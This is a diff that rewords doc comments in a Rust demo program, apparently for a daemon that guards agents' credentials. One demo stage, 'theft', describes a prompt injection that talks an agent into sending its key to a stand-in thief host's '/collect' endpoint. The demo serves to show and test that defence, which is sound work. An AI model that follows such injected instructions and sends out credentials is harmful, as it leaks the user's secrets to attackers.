@@ -1,4 +1,4 @@
-//! `cargo xtask demo`: the main job, shown with throw-away parts on this machine.
+//! `cargo xtask demo`: demonstrates the main features on this machine with temporary parts.
 
 #![forbid(unsafe_code)]
 #![allow(clippy::print_stdout, reason = "it speaks to a person")]
@@ -32,7 +32,7 @@ fn main() -> ExitCode {
     }
 }
 
-/// Lays out the output, and counts claims that do not hold.
+/// Formats the output and counts claims that fail.
 struct Show {
     failed: usize,
 }
@@ -61,9 +61,9 @@ struct Stage {
     daemon: Daemon,
     upstream: Upstream,
     canary: Canary,
-    /// Lives in a managed cgroup; only where the machine can.
+    /// The agent in a managed cgroup, if the machine supports it.
     inside: Option<(Agent, Granted)>,
-    /// Uses the proxy with a token, as a container would.
+    /// The agent that uses the proxy with a token, as a container would.
     outside: (Agent, Granted),
 }
 
@@ -138,7 +138,7 @@ impl Stage {
         Run::new("sh").args(["-c", &script, "sh"]).arg(curl.program()).args(curl.arguments())
     }
 
-    /// What went over the wire on both sides of the daemon.
+    /// Prints the bytes on the wire on both sides of the daemon.
     fn tell(&self, show: &mut Show, reply: &Reply, clean: bool) {
         let seen = self.upstream.requests();
         self.upstream.clear();
@@ -176,7 +176,7 @@ fn explicit(show: &mut Show, stage: &Stage) {
     stage.tell(show, &outcome.reply(), clean);
 }
 
-/// An injected prompt tells the agent to send its key to somebody else.
+/// A prompt injection makes the agent send its key to another host.
 fn theft(show: &mut Show, stage: &Stage) {
     Show::title(5, "Theft: the agent is talked into sending its key elsewhere");
     let url = stage.upstream.https_url(THIEF, "/collect");
